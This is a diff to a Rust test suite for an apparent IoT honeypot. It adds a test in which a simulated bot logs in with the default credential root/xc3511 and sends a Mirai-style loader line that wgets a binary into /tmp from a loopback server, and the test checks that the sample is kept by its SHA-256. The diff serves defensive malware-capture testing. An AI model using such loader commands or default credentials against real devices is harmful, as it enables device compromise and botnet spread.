@@ -42,6 +42,7 @@ fn config(limits: Limits, payloads: Option<PayloadStore>) -> HoneypotConfig {
         link_window: Duration::from_secs(3600),
         payloads,
         seed: 5,
+        fetch: None,
     }
 }
 
@@ -362,4 +363,64 @@ async fn bounds_end_sessions_and_a_flood_loses_no_event() {
             .any(|e| e["input"] == format!("echo flood{i}; /bin/busybox FLOOD").as_str()));
     }
     assert_eq!(stats.refused.load(std::sync::atomic::Ordering::Relaxed), 0);
+}
+
+/// Fetching on (loopback allowed for the test): the loader's wget URL is
+/// fetched from a local server, kept by its SHA-256, and recorded.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_opted_in_fetch_keeps_the_sample() {
+    let dir = tempfile::tempdir().unwrap();
+    let web = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let web_port = web.local_addr().unwrap().port();
+    tokio::spawn(async move {
+        for _ in 0..2 {
+            let (mut s, _) = web.accept().await.unwrap();
+            let mut b = [0u8; 1024];
+            let _ = s.read(&mut b).await;
+            let body = b"\x7fELF pretend bot";
+            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", body.len());
+            let _ = s.write_all(head.as_bytes()).await;
+            let _ = s.write_all(body).await;
+        }
+    });
+    let limits = Limits {
+        login_fail_delay: Duration::ZERO,
+        ..Limits::default()
+    };
+    let payloads = PayloadStore {
+        dir: dir.path().join("p"),
+        budget: 1 << 20,
+    };
+    let mut cfg = config(limits, Some(payloads.clone()));
+    cfg.fetch = Some(iotscope_honeypot::fetch::FetchConfig {
+        max_bytes: 1 << 20,
+        per_minute: 10,
+        timeout: Duration::from_secs(5),
+        allow_private: true,
+    });
+    let (addr, rec, _stats, stop, task) = start(cfg).await;
+    let mut b = Bot::connect("127.0.0.1".parse().unwrap(), addr).await;
+    b.login("root", "xc3511").await;
+    b.send(&format!(
+        "cd /tmp; wget http://127.0.0.1:{web_port}/bins/x.arm7; /bin/busybox ECCHI"
+    ))
+    .await;
+    b.expect("ECCHI: applet not found").await;
+    b.send("exit").await;
+    let mut rest = Vec::new();
+    let _ = b.s.read_to_end(&mut rest).await;
+    let _ = stop.send(());
+    task.await.unwrap();
+    let (events, sessions) = rec.0.lock().unwrap().clone();
+    let got = events
+        .iter()
+        .find(|e| e["eventid"] == "cowrie.session.file_download")
+        .expect("a download event");
+    let sha = got["shasum"].as_str().unwrap();
+    assert_eq!(
+        std::fs::read(payloads.dir.join(sha)).unwrap(),
+        b"\x7fELF pretend bot"
+    );
+    assert_eq!(sessions[0].payloads[0].sha256, sha);
+    assert!(sessions[0].is_loader());
 }
